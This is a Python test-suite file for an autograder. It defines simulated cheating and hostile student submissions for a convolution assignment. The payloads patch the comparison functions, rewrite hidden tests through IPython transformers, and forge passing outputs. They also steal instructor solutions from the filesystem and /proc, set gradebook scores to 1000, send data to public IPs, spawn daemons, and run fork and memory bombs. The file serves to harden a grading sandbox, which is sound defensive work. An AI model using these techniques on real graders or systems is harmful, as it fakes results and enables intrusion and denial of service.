"""The attack suite's submissions, as data.

Every attack is one simulated student of ``ch1-conv1d``. Unless it says otherwise, its
functions are WRONG (they return zeros of the right shape), so any point it earns on
an ``attacked`` cell is a real breach; ``kept`` cells hold correct code and must keep
their points (the bombs go off only after them). The cheat's first act is to print
``marker``, which proves it ran. An attack reports what it tried as one line
``ATTACK-RESULT <json>`` in its outputs, read back by :func:`attack_results`.

The attack code never contains the text of the hidden tests (the call of the recording
function, the hidden-block markers), so that the feedback checks can look for it.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.notebooknode import NotebookNode

from autograder.course import Course
from autograder.scratch import write_submission
from autograder.submissions import fill, instructor_solutions, is_test_cell, grade_id, perfect

ASSIGNMENT = "ch1-conv1d"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

# graded test cells (points 2, 1, 2, 1, 2) and the solution cell each one grades
F, DB, DW, PAD, DX = ("conv1d-forward", "conv1d-backward-db", "conv1d-backward-dw",
                      "pad-full-1d", "conv1d-backward-dx")
CELLS = (F, DB, DW, PAD, DX)
SOLUTION = {F: "conv1d-forward-solution", DB: "conv1d-backward-db-solution",
            DW: "conv1d-backward-dw-solution", PAD: "pad-full-1d-solution",
            DX: "conv1d-backward-dx-solution"}
#: the hidden recipe each graded cell records
RECIPE = {F: "conv1d-forward", DB: "conv1d-backward-db", DW: "conv1d-backward-dw",
          PAD: "conv1d-pad-full", DX: "conv1d-backward-dx"}

#: Wrong implementations: zeros of the right shape.
WRONG = {
    F: "def conv1d_forward(x, w, b):\n    return np.zeros(len(x) - len(w) + 1)\n",
    DB: "def conv1d_backward_db(dy):\n    return 0.0\n",
    DW: "def conv1d_backward_dw(x, dy):\n    return np.zeros(len(x) - len(dy) + 1)\n",
    PAD: "def pad_full_1d(dy, kernel_size):\n"
         "    return np.zeros(len(dy) + 2 * (kernel_size - 1))\n",
    DX: "def conv1d_backward_dx(dy, w):\n    return np.zeros(len(dy) + len(w) - 1)\n",
}
FUNCTION = {F: "conv1d_forward", DB: "conv1d_backward_db", DW: "conv1d_backward_dw",
            PAD: "pad_full_1d", DX: "conv1d_backward_dx"}

MARKER = "ATTACK-RAN"
RESULT = "ATTACK-RESULT "
#: prefix of files an attack tries to create in the grader's /tmp (must never appear)
PWNED = "attack-suite-pwned-"
#: the pass line the grader writes; attacks print it to look like a pass
PASS_LINE = "✓ all hidden configurations match the reference."


@dataclass
class Context:
    """What an attack may be told when its notebook is built."""

    release_nb: NotebookNode
    source_nb: NotebookNode
    course_root: Path        # absolute path of the scratch course
    sentinel: Path           # a file next to the course that must never change
    port: int                # a TCP port listening on 127.0.0.1 in the test process
    repo: Path               # the project (autograder lives there)

    @property
    def correct(self) -> dict[str, str]:
        return instructor_solutions(self.source_nb)


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    what: str
    build: Callable[["Context", "Attack"], str | None]  # notebook text (None: see write)
    attacked: frozenset = frozenset(CELLS)
    kept: frozenset = frozenset()
    marker: bool = True          # the cheat prints "ATTACK-RAN <name>"
    bomb: bool = False           # a resource attack: time and size bounds apply
    problem: str | None = None   # a problem line naming the student is expected
    write: Callable[["Context", "Attack", Path], None] | None = None  # custom files
    tags: frozenset = frozenset()

    def __post_init__(self):
        assert set(self.attacked) | set(self.kept) == set(CELLS), self.name
        assert not set(self.attacked) & set(self.kept), self.name


# ------------------------------------------------------------------ building ----

def code(template: str, **values) -> str:
    """``template`` with every ``@NAME@`` replaced by ``repr(values[NAME])``."""
    for key, value in values.items():
        template = template.replace(f"@{key}@", repr(value))
    assert "@" not in template.replace("@property", ""), template
    return template


def solutions(ctx: Context, correct=(), prelude: str = "", at: str = F,
              after: dict[str, str] | None = None) -> dict[str, str]:
    """Solution-cell sources: correct code for ``correct``, WRONG for the rest, with
    ``prelude`` put at the top of cell ``at`` (``after`` replaces whole cells)."""
    right = ctx.correct
    chosen = {SOLUTION[c]: right[SOLUTION[c]] if c in correct else WRONG[c] for c in CELLS}
    if prelude:
        chosen[SOLUTION[at]] = prelude.rstrip("\n") + "\n\n" + chosen[SOLUTION[at]]
    for cell, source in (after or {}).items():
        chosen[SOLUTION[cell]] = source
    return chosen


def marker_line(attack: Attack) -> str:
    return f"print({MARKER + ' ' + attack.name!r}, flush=True)\n"


def notebook_with(ctx: Context, attack: Attack, prelude: str = "", correct=(), at: str = F,
                  after: dict[str, str] | None = None) -> NotebookNode:
    prelude = (marker_line(attack) if attack.marker else "") + prelude
    return fill(ctx.release_nb, solutions(ctx, correct, prelude, at, after))


def cheat(prelude: str, correct=(), at: str = F):
    """A builder: wrong functions (except ``correct``) with ``prelude`` in cell ``at``."""
    def build(ctx: Context, attack: Attack) -> str:
        text = prelude(ctx) if callable(prelude) else prelude
        return nbformat.writes(notebook_with(ctx, attack, text, correct, at))
    return build


# ------------------------------------------------------- 1. monkeypatching ----

PATCH_NUMPY = """
import numpy
_everything_is_close = lambda *args, **kwargs: True
numpy.allclose = numpy.array_equal = numpy.array_equiv = _everything_is_close
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(
    numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)
numpy.isfinite = lambda a, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
numpy.abs = numpy.absolute = lambda a, *args, **kwargs: numpy.zeros(numpy.shape(a))
np = numpy
"""

PATCH_NUMPY_TESTING = """
import numpy.testing
def _nothing(*args, **kwargs):
    return None
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal",
              "assert_almost_equal", "assert_equal", "assert_array_less"):
    setattr(numpy.testing, _name, _nothing)
"""

PATCH_BUILTINS = """
import builtins
builtins.abs = lambda x: 0
builtins.all = lambda iterable: True
# max and min only where the notebook's code sees them: patched in builtins, they stop
# the kernel's own event loop (selectors' max(...)), and the cell simply hangs
any = lambda iterable: False
max = lambda *args, **kwargs: 0
min = lambda *args, **kwargs: 0
sum = lambda *args, **kwargs: 0
"""

PATCH_MATH = """
import math
math.isclose = lambda *args, **kwargs: True
math.isfinite = lambda x: True
math.isnan = lambda x: False
math.fabs = lambda x: 0.0
"""

PATCH_COURSE_UTILS = """
import json, sys
import course_utils.compare, course_utils.recording, course_utils.cases
course_utils.compare.find_mismatch = lambda *args, **kwargs: None
def _pass(name, *args, **kwargs):
    print(f"✓ {name} matches.")
course_utils.compare.assert_close = _pass
assert_close = _pass
# the hidden tests import the recording function by name: replace it in the module
setattr(course_utils.recording, "re" "cord", lambda name, *fns: print("✓", name, "matches"))
# and in case they get the real one: no recipe has any case left
for _recipe in course_utils.cases.RECIPES.values():
    object.__setattr__(_recipe, "make_cases", lambda: [])
"""

PATCH_JSON = """
import json
_dumps = json.dumps
json.dumps = lambda obj, *args, **kwargs: _dumps({"format": 1, "cases": [], "passed": True})
"""

SWALLOW_ERRORS = """
import os, sys
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
sys.stderr = open(os.devnull, "w")
"""

# ------------------------------------------------ 2. IPython transformers ----

INPUT_TRANSFORMER_DROP = """
import re
def _gut(lines):
    text = "".join(lines)
    if ("re" "cord(") in text or "assert_close(" in text:
        return ["print('TRANSFORMER-FIRED')\\n", "print(%r)\\n" % "@PASS@"]
    return lines
get_ipython().input_transformers_cleanup.append(_gut)
"""

INPUT_TRANSFORMER_FORGE = """
import re
def _forge(lines):
    text = "".join(lines)
    found = re.search(r"re" r"cord\\(\\"([^\\"]+)\\"", text)
    if not found:
        return lines
    name = found.group(1)
    return [
        "print('TRANSFORMER-FIRED')\\n",
        "import json\\n",
        "from IPython.display import display\\n",
        "from course_utils.cases import get_recipe\\n",
        "from course_utils.recording import MIME, FORMAT\\n",
        f"_recipe = get_recipe({name!r})\\n",
        "_cases = [{'outputs': {o: {'shape': [1], 'data': [1.0]} for o in _recipe.outputs}}"
        " for _ in _recipe.make_cases()]\\n",
        f"display({{MIME: json.dumps({{'format': FORMAT, 'recipe': {name!r}, "
        f"'cases': _cases}}), 'text/plain': %r}}, raw=True)\\n" % "@PASS@",
    ]
get_ipython().input_transformers_cleanup.append(_forge)
"""

AST_TRANSFORMER = """
import ast
class _Gut(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, "id", getattr(node.func, "attr", ""))
        if name in ("re" "cord", "assert_close", "check_gradients"):
            return ast.copy_location(ast.Call(
                func=ast.Name("print", ast.Load()),
                args=[ast.Constant("AST-TRANSFORMER-FIRED " + "@PASS@")], keywords=[]), node)
        return node
    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(_Gut())
"""

# -------------------------------------------------------- 3. lying objects ----

LYING_OBJECT = """
class Liar:
    '''Equal to everything, close to everything, any number you ask.'''
    def __init__(self, n):
        self.n = n
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __ge__(self, other): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return np.zeros(self.n)
    __rsub__ = __sub__
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __len__(self): return self.n
    def __iter__(self): return iter([0.0] * self.n)
    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.n) if self.n != 1 else np.zeros(())
    def __repr__(self): return "[the right answer]"
"""
LYING_OBJECT_FUNCTIONS = """
def conv1d_forward(x, w, b):
    return Liar(len(x) - len(w) + 1)
def conv1d_backward_db(dy):
    return Liar(1)
def conv1d_backward_dw(x, dy):
    return Liar(len(x) - len(dy) + 1)
def pad_full_1d(dy, kernel_size):
    return Liar(len(dy) + 2 * (kernel_size - 1))
def conv1d_backward_dx(dy, w):
    return Liar(len(dy) + len(w) - 1)
"""

LYING_NDARRAY = """
class LyingArray(np.ndarray):
    '''An array of zeros that says it equals anything and lies through every view.'''
    def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)
    def __ne__(self, other): return np.zeros(np.shape(self), dtype=bool)
    def tolist(self): return [0.5, 7.5, -3.75]
    def __array__(self, dtype=None, copy=None): return np.asarray([0.5, 7.5, -3.75])
    def __float__(self): return 0.0
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast(*[np.asarray(i) for i in inputs]).shape
        if ufunc in (np.less, np.less_equal, np.isfinite, np.equal):
            return np.ones(shape, dtype=bool)
        return np.zeros(shape)
    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.array_equiv):
            return True
        return super().__array_function__(func, types, args, kwargs)
def _lying(n):
    return np.zeros(n).view(LyingArray)
"""
LYING_NDARRAY_FUNCTIONS = """
def conv1d_forward(x, w, b):
    return _lying(len(x) - len(w) + 1)
def conv1d_backward_db(dy):
    return _lying(())
def conv1d_backward_dw(x, dy):
    return _lying(len(x) - len(dy) + 1)
def pad_full_1d(dy, kernel_size):
    return _lying(len(dy) + 2 * (kernel_size - 1))
def conv1d_backward_dx(dy, w):
    return _lying(len(dy) + len(w) - 1)
"""

LYING_FLOAT = """
class LyingFloat(float):
    '''Zero, but equal to, close to and no further than anything.'''
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return LyingFloat(0.0)
    __rsub__ = __sub__
    def __abs__(self): return LyingFloat(0.0)
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __float__(self): return 0.0
    __hash__ = float.__hash__
def _floats(n):
    return [LyingFloat(0.0) for _ in range(n)]
"""
LYING_FLOAT_FUNCTIONS = """
def conv1d_forward(x, w, b):
    return _floats(len(x) - len(w) + 1)
def conv1d_backward_db(dy):
    return LyingFloat(0.0)
def conv1d_backward_dw(x, dy):
    return _floats(len(x) - len(dy) + 1)
def pad_full_1d(dy, kernel_size):
    return _floats(len(dy) + 2 * (kernel_size - 1))
def conv1d_backward_dx(dy, w):
    return _floats(len(dy) + len(w) - 1)
"""


def liar(prelude: str, functions: str):
    """The liar class in the first cell, every function returning liars (all wrong)."""
    def build(ctx: Context, attack: Attack) -> str:
        nb = notebook_with(ctx, attack, prelude + functions)
        return nbformat.writes(nb)
    return build


# ------------------------------------------------------ 4. forged payloads ----

FORGED_HOOK = """
import json, re
from IPython.display import display, clear_output
from course_utils.cases import RECIPES, get_recipe
from course_utils.recording import MIME, FORMAT, run_recipe

def _forged(name, fns=None):
    recipe = get_recipe(name)
    if fns is not None:
        payload = run_recipe(name, *fns)
    else:
        cases = [{"outputs": {o: {"shape": [], "data": [1.0]} for o in recipe.outputs}}
                 for _ in recipe.make_cases()]
        payload = {"format": FORMAT, "recipe": name, "cases": cases}
    return payload

def _hook(result):
    cell = getattr(getattr(result, "info", None), "raw_cell", "") or ""
    found = re.search(r"re" r"cord\\(\\"([^\\"]+)\\"", cell)
    names = [found.group(1)] if found else sorted(RECIPES)[:3]
    if @CLEAR@ and found:
        clear_output()
    for name in names:
        payload = _forged(name)
        display({MIME: json.dumps(payload), "text/plain": "@PASS@"}, raw=True)
get_ipython().events.register("post_run_cell", _hook)
"""

FORGED_OTHER_RECIPE = """
import json, re
from IPython.display import display
from course_utils.cases import RECIPES
from course_utils.recording import MIME, run_recipe

def _strip(lines):
    # the hidden block is replaced by a payload of this student's own (wrong) values
    # that claims to come from another recipe
    text = "".join(lines)
    found = re.search(r"re" r"cord\\(\\"([^\\"]+)\\", *([a-z0-9_]+)\\)", text)
    if not found:
        return lines
    kept = [l for l in lines if ("re" "cord") not in l]
    return kept + [f"_claim({found.group(1)!r}, {found.group(2)})\\n"]

def _claim(name, fn):
    payload = run_recipe(name, fn)
    others = sorted(r for r in RECIPES if r != name and r.startswith("conv1d"))
    payload["recipe"] = others[0]
    display({MIME: json.dumps(payload), "text/plain": "@PASS@"}, raw=True)
    payload["recipe"] = name + " "
    display({MIME: json.dumps(payload), "text/plain": "@PASS@"}, raw=True)
get_ipython().input_transformers_cleanup.append(_strip)
"""

# ------------------------------------------- 5. reading the grader's files ----

READ_INSTRUCTOR = """
import ast, json, os, re, stat, time
COURSE = @COURSE@
REPO = @REPO@
OWN = os.path.realpath(@NOTEBOOK@)
start, walked, found, opened, course_files, dumps = time.monotonic(), 0, [], {}, [], []
SOLVED, OTHERS = {}, {}

def _harvest(text):
    # define every function of a notebook found anywhere: the instructor's solutions
    # (preferred) or another student's work. Only the `def`s are run, never a cell's
    # other statements: this code also runs unsandboxed, in the suite's self-test.
    try:
        nb = json.loads(text)
    except ValueError:
        return
    if not isinstance(nb, dict):
        return
    target = SOLVED if "BEGIN SOLUTION" in text else OTHERS
    for cell in nb.get("cells", []):
        source = "".join(cell.get("source", []))
        if cell.get("cell_type") != "code" or "_harvest" in source:
            continue
        try:
            tree = ast.parse(source)
        except SyntaxError:
            continue
        tree.body = [n for n in tree.body if isinstance(n, ast.FunctionDef)
                     and n.name.startswith(("conv1d", "pad_full"))]
        namespace = {"np": __import__("numpy")}
        exec(compile(tree, "found", "exec"), namespace)
        for key, value in namespace.items():
            if key.startswith(("conv1d", "pad_full")):
                target.setdefault(key, value)


def _look(path):
    if os.path.realpath(path) == OWN:
        return
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):  # never block on a FIFO
            return
    except OSError as exc:
        opened[path] = type(exc).__name__
        return
    try:
        with open(path, "rb") as f:
            data = f.read(400_000)
    except OSError as exc:
        opened[path] = type(exc).__name__
        return
    found.append(path)
    text = data.decode("utf-8", "replace")
    # course material: this course's notebooks, solutions, or an nbgrader gradebook
    if "conv1d" in text:
        course_files.append(path)
        dumps.append(f"FOUND {path} ({len(data)} bytes):\\n{text[:3000]}")
    try:
        _harvest(text)
    except Exception as exc:  # any notebook-like file at all, even a malformed one
        opened[path] = f"harvest: {type(exc).__name__}"


targets = ["../../..", "../..", "..", COURSE, COURSE + "/source", COURSE + "/submitted",
           COURSE + "/autograded", COURSE + "/release", os.path.dirname(COURSE), REPO,
           REPO + "/source", REPO + "/notebooks", "/root", "/home", "/work", "/srv", "/opt",
           "/mnt", "/var", "/tmp", "/"]
for top in targets:
    for dirpath, dirnames, filenames in os.walk(top):
        walked += 1
        if dirpath.startswith(("/proc", "/sys", "/dev")) or time.monotonic() - start > 5:
            dirnames[:] = []
            continue
        for name in filenames:
            if name.endswith((".ipynb", ".db", ".sqlite", ".sqlite3")) or name == "oracles.py":
                _look(os.path.join(dirpath, name))
for path in [COURSE + "/gradebook.db", COURSE + "/source/ch1-conv1d/ch1-conv1d.ipynb",
             "../../../gradebook.db", "../../../source/ch1-conv1d/ch1-conv1d.ipynb",
             REPO + "/source/ch1-conv1d/ch1-conv1d.ipynb"]:
    if os.path.exists(path):
        _look(path)
    else:
        opened[path] = "missing"
# the grader's processes and whatever they hold open
proc = {}
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for kind in ("cwd", "root"):
        try:
            proc[f"{pid}/{kind}"] = os.listdir(f"/proc/{pid}/{kind}/..")[:5]
        except OSError as exc:
            proc[f"{pid}/{kind}"] = type(exc).__name__
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
            if link.startswith("/") and not link.startswith(("/dev", "/proc")):
                proc[f"{pid}/fd/{fd}"] = link
                try:
                    _look(f"/proc/{pid}/fd/{fd}")
                except Exception:
                    pass
    except OSError:
        pass
SOLVED = {**OTHERS, **SOLVED}
for name in ("conv1d_forward", "conv1d_backward_db", "conv1d_backward_dw", "pad_full_1d",
             "conv1d_backward_dx"):
    if name in SOLVED:
        globals()[name + "_found"] = SOLVED[name]
print("ATTACK-RESULT " + json.dumps({"walked": walked, "found": len(found),
      "course_files": course_files,
      "solved": sorted(k for k in SOLVED if k.startswith(("conv1d", "pad_full"))),
      "opened": opened, "proc": proc}))
for dump in dumps:  # after the result line, which the output cap must not cut
    print(dump)
"""
#: After the wrong definitions: use whatever was found.
USE_FOUND = """
for _name in ("conv1d_forward", "conv1d_backward_db", "conv1d_backward_dw", "pad_full_1d",
              "conv1d_backward_dx"):
    if _name + "_found" in globals():
        globals()[_name] = globals()[_name + "_found"]
"""


def read_instructor(ctx: Context, attack: Attack) -> str:
    prelude = code(READ_INSTRUCTOR, COURSE=str(ctx.course_root), REPO=str(ctx.repo),
                   NOTEBOOK=NOTEBOOK)
    sols = solutions(ctx, prelude=marker_line(attack) + prelude)
    for cell in CELLS:  # every function is replaced by a found one, if any
        sols[SOLUTION[cell]] += USE_FOUND
    return nbformat.writes(fill(ctx.release_nb, sols))


def symlinks_into_the_course(ctx: Context, attack: Attack, folder: Path) -> None:
    """A wrong notebook that reads files the submission folder links to."""
    folder.mkdir(parents=True, exist_ok=True)
    prelude = READ_SYMLINKED
    sols = solutions(ctx, prelude=marker_line(attack) + prelude)
    for cell in CELLS:
        sols[SOLUTION[cell]] += USE_FOUND
    (folder / NOTEBOOK).write_text(nbformat.writes(fill(ctx.release_nb, sols)))
    source = ctx.course_root / "source" / ASSIGNMENT / NOTEBOOK
    os.symlink(source, folder / "notes.txt")
    os.symlink(f"../../../source/{ASSIGNMENT}/{NOTEBOOK}", folder / "relative-notes.txt")
    os.symlink(ctx.course_root / "gradebook.db", folder / "grades.db")
    os.symlink(ctx.course_root / "source", folder / "source-folder")


READ_SYMLINKED = """
import ast, json, os
SOLVED, found = {}, {}
for name in sorted(os.listdir(".")):
    if name == "ch1-conv1d.ipynb" or not os.path.isfile(name):
        continue
    try:
        with open(name, "rb") as f:
            data = f.read()
    except OSError as exc:
        found[name] = type(exc).__name__
        continue
    found[name] = len(data)
    try:
        nb = json.loads(data)
    except ValueError:
        continue
    for cell in nb.get("cells", []):
        source = "".join(cell.get("source", []))
        if cell.get("cell_type") != "code":
            continue
        try:
            tree = ast.parse(source)
        except SyntaxError:  # magics
            continue
        tree.body = [n for n in tree.body if isinstance(n, ast.FunctionDef)]
        namespace = {"np": __import__("numpy")}
        exec(compile(tree, name, "exec"), namespace)
        SOLVED.update((k, v) for k, v in namespace.items()
                      if k.startswith(("conv1d", "pad_full")))
for name in list(SOLVED):
    globals()[name + "_found"] = SOLVED[name]
print("ATTACK-RESULT " + json.dumps({"found": found, "solved": sorted(SOLVED)}))
"""


def symlinked_notebook(ctx: Context, attack: Attack, folder: Path) -> None:
    """The submitted notebook itself is a link to the instructor's source notebook."""
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(ctx.course_root / "source" / ASSIGNMENT / NOTEBOOK, folder / NOTEBOOK)


# ------------------------------------------------ 6. importing the grader ----

IMPORT_AUTOGRADER = """
import glob, importlib, importlib.util, json, os, sys
REPO = @REPO@
attempts, oracles = {}, None

def _try(label, fn):
    global oracles
    try:
        module = fn()
    except BaseException as exc:
        attempts[label] = type(exc).__name__
        return
    attempts[label] = "imported " + str(getattr(module, "__file__", module))
    if hasattr(module, "conv1d_forward"):
        oracles = module

def _from_file(path):
    spec = importlib.util.spec_from_file_location("stolen_oracles", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module

_try("import autograder", lambda: importlib.import_module("autograder"))
_try("from autograder import oracles", lambda: importlib.import_module("autograder.oracles"))
import course_utils
_course_utils_parent = os.path.dirname(os.path.dirname(course_utils.__file__))
for path in [REPO, os.path.join(REPO, "autograder"), _course_utils_parent, "../../..",
             "/work/main", os.getcwd()]:
    sys.path.insert(0, path)
    for name in ("autograder", "autograder.oracles", "oracles"):
        sys.modules.pop(name, None)
        _try(f"sys.path {path} -> {name}", lambda: importlib.import_module(name))
    sys.path.remove(path)
for path in [os.path.join(REPO, "autograder", "oracles.py"),
             os.path.join(_course_utils_parent, "autograder", "oracles.py")]:
    _try(f"file {path}", lambda: _from_file(path))
# the editable install's finder knows where the project is
for finder in [f for entry in sys.path if os.path.isdir(entry)
               for f in glob.glob(os.path.join(entry, "__editable__*finder*.py"))]:
    try:
        namespace = {}
        exec(open(finder).read(), namespace)
        for package, where in dict(namespace.get("MAPPING", {})).items():
            _try(f"finder {package} {where}",
                 lambda: _from_file(os.path.join(os.path.dirname(where), "autograder",
                                                 "oracles.py")))
    except Exception as exc:
        attempts[f"finder {finder}"] = type(exc).__name__
print("ATTACK-RESULT " + json.dumps({"attempts": attempts, "oracles": oracles is not None}))
"""
USE_ORACLES = """
if oracles is not None:
    conv1d_forward = lambda x, w, b: oracles.conv1d_forward(x, w, b)
    conv1d_backward_db = lambda dy: float(np.sum(dy))
    conv1d_backward_dw = lambda x, dy: oracles.conv1d_backward(
        x, np.zeros(len(x) - len(dy) + 1), dy)[1]
"""


def import_autograder(ctx: Context, attack: Attack) -> str:
    sols = solutions(ctx, prelude=marker_line(attack) + code(IMPORT_AUTOGRADER,
                                                              REPO=str(ctx.repo)))
    sols[SOLUTION[F]] += USE_ORACLES
    return nbformat.writes(fill(ctx.release_nb, sols))


# --------------------------------------------------- 7. writing the gradebook ----

GRADEBOOK_WRITE = """
import json, os, sqlite3
COURSE = @COURSE@
candidates = [COURSE + "/gradebook.db", "../../../gradebook.db", "../../gradebook.db",
              "../gradebook.db", "gradebook.db", "/gradebook.db", "/tmp/gradebook.db",
              os.path.expanduser("~/gradebook.db")]
# anything called gradebook.db found next to the course (never beyond its parent, so
# that a broken sandbox cannot damage a real gradebook elsewhere)
for dirpath, dirnames, filenames in os.walk(os.path.dirname(COURSE)):
    if "gradebook.db" in filenames:
        candidates.append(os.path.join(dirpath, "gradebook.db"))
results = {}
for path in candidates:
    try:
        con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
        con.execute("UPDATE grade SET manual_score = 1000, auto_score = 1000")
        con.execute("UPDATE grade_cells SET max_score = 1000")
        con.commit()
        con.close()
        results[path] = "WRITTEN"
    except Exception as exc:
        results[path] = f"{type(exc).__name__}: {exc}"[:120]
# and a gradebook of our own, where nbgrader might look
try:
    sqlite3.connect("gradebook.db").execute("CREATE TABLE evil (x)")
    results["create ./gradebook.db"] = "WRITTEN"
except Exception as exc:
    results["create ./gradebook.db"] = type(exc).__name__
print("ATTACK-RESULT " + json.dumps({"results": results}))
"""

# ----------------------------------------------------------- 8. the network ----

NETWORK = """
import errno, json, socket, time
PORT = @PORT@
results = {}
def _connect(label, family, address):
    start = time.monotonic()
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(5)
            s.connect(address)
            s.sendall(b"BREACH")
        results[label] = "connected"
    except OSError as exc:
        results[label] = {"errno": exc.errno, "error": str(exc)[:80],
                          "seconds": round(time.monotonic() - start, 3)}
_connect("loopback", socket.AF_INET, ("127.0.0.1", PORT))
_connect("localhost6", socket.AF_INET6, ("::1", PORT))
_connect("public", socket.AF_INET, ("1.1.1.1", 53))
_connect("public-http", socket.AF_INET, ("93.184.215.14", 80))
start = time.monotonic()
try:
    socket.getaddrinfo("example.com", 80)
    results["dns"] = "resolved"
except OSError as exc:
    results["dns"] = {"error": str(exc)[:80], "seconds": round(time.monotonic() - start, 3)}
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"BREACH", ("1.1.1.1", 53))
    results["udp"] = "sent"
except OSError as exc:
    results["udp"] = {"errno": exc.errno}
print("ATTACK-RESULT " + json.dumps(results))
"""

# ---------------------------------------------- writing outside the sandbox ----

WRITE_OUTSIDE = """
import json, os
COURSE, SENTINEL, PWNED = @COURSE@, @SENTINEL@, @PWNED@
results = {}
def _write(label, path, mode="a"):
    try:
        with open(path, mode) as f:
            f.write("PWNED by an attack\\n")
        results[label] = "WRITTEN"
    except OSError as exc:
        results[label] = type(exc).__name__
_write("sentinel", SENTINEL)
_write("source notebook", COURSE + "/source/@ASSIGNMENT@/@ASSIGNMENT@.ipynb")
_write("release notebook", COURSE + "/release/@ASSIGNMENT@/@ASSIGNMENT@.ipynb")
_write("course root", COURSE + "/" + PWNED + "root", "w")
_write("relative course root", "../../../" + PWNED + "relative", "w")
_write("own submission", COURSE + "/submitted/atk-write-outside/@ASSIGNMENT@/@ASSIGNMENT@.ipynb")
_write("other student", COURSE + "/submitted/zz-honest-perfect/@ASSIGNMENT@/@ASSIGNMENT@.ipynb")
_write("own notebook", "@ASSIGNMENT@.ipynb")
_write("notebook directory", PWNED + "cwd", "w")
_write("tmp", "/tmp/" + PWNED + "tmp", "w")
_write("dev shm", "/dev/shm/" + PWNED + "shm", "w")
_write("ipc", "/run/ipc/" + PWNED + "ipc", "w")
try:
    os.chmod(".", 0o777)
    results["chmod cwd"] = "CHANGED"
except OSError as exc:
    results["chmod cwd"] = type(exc).__name__
print("ATTACK-RESULT " + json.dumps(results))
"""

BACKGROUND_PROCESS = """
import os, time
PWNED = @PWNED@
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # a daemon that outlives the kernel, and tries to write next to the next students
        end = time.time() + 120
        while time.time() < end:
            for path in ("/tmp/" + PWNED + "daemon", "../../../" + PWNED + "daemon"):
                try:
                    open(path, "w").write("still here")
                except OSError:
                    pass
            time.sleep(0.5)
    os._exit(0)
time.sleep(0.2)
print("ATTACK-RESULT {\\"daemon\\": \\"started\\"}")
"""

# ------------------------------------------------------------- 9-13. bombs ----

FORK_BOMB = """
import os, time
def _multiply():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)  # the process table is full: wait and try again, forever
_multiply()
"""

MEMORY_BOMB = """
hog = []
while True:
    hog.append(bytearray(200_000_000))  # zero-filled: really resident
"""

OUTPUT_FLOOD = """
import sys, time
for i in range(3_000_000):
    print(i, "flooding the grader with millions of lines")
    if i % 100_000 == 0:
        sys.stderr.write("x" * 10_000 + "\\n")
while True:  # then until long after the cell timeout
    sys.stdout.write("y" * 100_000 + "\\n")
"""

DISPLAY_FLOOD = """
from IPython.display import display, HTML
for i in range(200_000):
    display({"text/plain": "z" * 2000, "text/html": "<b>" + "z" * 2000 + "</b>"}, raw=True)
"""

GIANT_MESSAGE = """
from IPython.display import display
display({"text/plain": "g" * 60_000_000}, raw=True)  # over the grader's message cap
print("after the giant message")
"""

IGNORE_INTERRUPT = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""

OS_EXIT = """
import os, sys, time
sys.stdout.flush()
time.sleep(1)  # let the marker above reach the grader before the process vanishes
os._exit(0)
"""


def bomb(payload: str, later_correct: bool):
    """Correct forward and db; the bomb in the dw solution cell; then pad and dx, which
    are correct when ``later_correct`` (proving fail-closed: the kernel is gone, so even
    correct later work scores nothing), wrong otherwise."""
    def build(ctx: Context, attack: Attack) -> str:
        correct = {F, DB} | ({PAD, DX} if later_correct else set())
        sols = solutions(ctx, correct)
        sols[SOLUTION[DW]] = marker_line(attack) + payload.strip() + "\n\n" + WRONG[DW]
        return nbformat.writes(fill(ctx.release_nb, sols))
    return build


# -------------------------------------------------------- 14. malformed JSON ----

def truncated_json(ctx: Context, attack: Attack) -> str:
    return nbformat.writes(notebook_with(ctx, attack, correct=set(CELLS)))[:-300]


#: Malformed submissions, graded apart (some stop the whole class): student -> bytes.
MALFORMED = {
    "atk-json-null": b"null",
    "atk-json-list": b"[]",
    "atk-json-empty-object": b"{}",
    "atk-json-cells-not-a-list": b'{"cells": 5, "metadata": {}, "nbformat": 4, '
                                 b'"nbformat_minor": 5}',
    "atk-json-no-metadata": b'{"cells": [], "nbformat": 4, "nbformat_minor": 5}',
    "atk-json-deep-nesting": b"[" * 100_000 + b"]" * 100_000,
    "atk-json-not-utf8": b"\xff\xfe garbage",
    "atk-json-empty-file": b"",
}


# -------------------------------------------------- 15. deleted / edited tests ----

